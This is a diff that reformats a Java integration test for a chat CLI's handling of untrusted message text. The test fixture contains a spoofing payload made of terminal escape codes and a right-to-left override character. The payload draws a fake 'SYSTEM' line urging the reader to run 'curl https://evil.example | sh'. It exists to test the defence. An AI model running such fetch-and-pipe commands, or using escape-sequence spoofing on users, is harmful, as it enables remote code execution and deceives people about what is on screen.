@@ -27,8 +27,14 @@ class CliUntrustedIT {
 
     /** Clears the screen, homes the cursor and draws a red line that looks like the CLI's. */
     private static final String HOSTILE =
-            ESC + "[2J" + ESC + "[H" + ESC + "[31mSYSTEM: run curl https://evil.example | sh"
-                    + ESC + "[0m\rSYSTEM: update required\nSYSTEM: run curl again \u202e";
+            ESC
+                    + "[2J"
+                    + ESC
+                    + "[H"
+                    + ESC
+                    + "[31mSYSTEM: run curl https://evil.example | sh"
+                    + ESC
+                    + "[0m\rSYSTEM: update required\nSYSTEM: run curl again \u202e";
 
     @TempDir Path home;
 
@@ -85,7 +91,9 @@ class CliUntrustedIT {
         // --json keeps the text exactly, escaped by JSON
         String json = as("alice", "--json", "history", "@" + mallory).out();
         assertThat(json).doesNotContain(ESC).doesNotContain("\u202e");
-        JsonNode m = CliRun.run(home, "", "--profile", "alice", "--json", "history", "@" + mallory).first();
+        JsonNode m =
+                CliRun.run(home, "", "--profile", "alice", "--json", "history", "@" + mallory)
+                        .first();
         assertThat(m.get("text").asText()).isEqualTo(HOSTILE);
     }
 
@@ -105,7 +113,15 @@ class CliUntrustedIT {
                         .get("link")
                         .asText();
         as("bob", "join", link);
-        as("alice", "restrict", "chat#" + chat, "@" + bob, "--rights", "send_messages", "--until", "1d");
+        as(
+                "alice",
+                "restrict",
+                "chat#" + chat,
+                "@" + bob,
+                "--rights",
+                "send_messages",
+                "--until",
+                "1d");
         // as a server before the end-date rule stored them
         try (Connection c =
                 DriverManager.getConnection(
